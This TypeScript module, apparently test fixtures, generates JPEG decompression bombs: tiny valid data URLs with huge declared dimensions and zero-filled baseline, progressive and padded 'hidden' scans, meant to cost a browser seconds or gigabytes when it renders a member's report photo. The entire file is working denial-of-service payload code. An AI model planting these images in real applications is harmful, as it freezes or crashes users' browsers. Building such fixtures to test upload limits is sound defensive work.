/*
 * JPEGs that are valid, small, and cost a browser seconds or gigabytes: what a member could store as the
 * photo of a report.
 */

const segment = (marker: number, body: readonly number[]) => [
  0xff,
  marker,
  (body.length + 2) >> 8,
  (body.length + 2) & 0xff,
  ...body,
]

const SOI = [0xff, 0xd8]
const EOI = [0xff, 0xd9]
/** All quantisation steps are 1. */
const DQT = segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)])
/** One code of one bit, 0, for `symbol`. `table`: 0x00 for DC, 0x10 for AC. */
const huffman = (table: number, symbol: number) =>
  segment(0xc4, [table, 1, ...Array.from({ length: 15 }, () => 0), symbol])

const frame = (marker: number, edge: number) =>
  segment(marker, [8, edge >> 8, edge & 0xff, edge >> 8, edge & 0xff, 1, 1, 0x11, 0])

/** A scan of the only component: coefficients `from` to `to`. */
const scan = (from: number, to: number) => segment(0xda, [1, 1, 0, from, to, 0])
const zeros = (count: number) => Array.from({ length: count }, () => 0)

const toDataUrl = (bytes: readonly number[]) =>
  `data:image/jpeg;base64,${Buffer.from(bytes).toString('base64')}`

/** The longest data URL that the access rules let a member store as a preview. */
const PREVIEW_BYTES = 24 * 1024

/** A gray square. The decoder fills in what the file does not hold. */
export const baselineBomb = (edge = 23_000) =>
  toDataUrl([
    ...SOI,
    ...DQT,
    ...frame(0xc0, edge),
    ...huffman(0x00, 0),
    ...huffman(0x10, 0),
    ...scan(0, 63),
    ...zeros(PREVIEW_BYTES - 200),
    ...EOI,
  ])

/** The same with one scan for each coefficient. Each passes over the whole picture. */
export const progressiveBomb = (edge = 23_000) => {
  const blocks = Math.ceil(edge / 8) ** 2
  /** A code bit and 14 bits of length, all 0: 2^14 blocks without a coefficient. */
  const run = zeros(Math.min(300, Math.ceil((Math.ceil(blocks / 2 ** 14) * 15) / 8)))
  return toDataUrl([
    ...SOI,
    ...DQT,
    ...frame(0xc2, edge),
    ...huffman(0x00, 0),
    ...scan(0, 0),
    ...zeros(2000),
    ...huffman(0x10, 0xe0),
    ...Array.from({ length: 60 }, (_, at) => [...scan(at + 1, at + 1), ...run]).flat(),
    ...EOI,
  ])
}

/** A baseline bomb whose frame header comes after `bytes` of application data. */
export const hiddenBomb = (bytes: number) => {
  const block = segment(0xe1, zeros(65_000))
  const padding = Array.from({ length: Math.ceil(bytes / block.length) }, () => block).flat()
  const { buffer } = Buffer.from(baselineBomb().split(',')[1] ?? '', 'base64')
  return Buffer.from([...SOI, ...padding, ...new Uint8Array(buffer).subarray(2)])
}
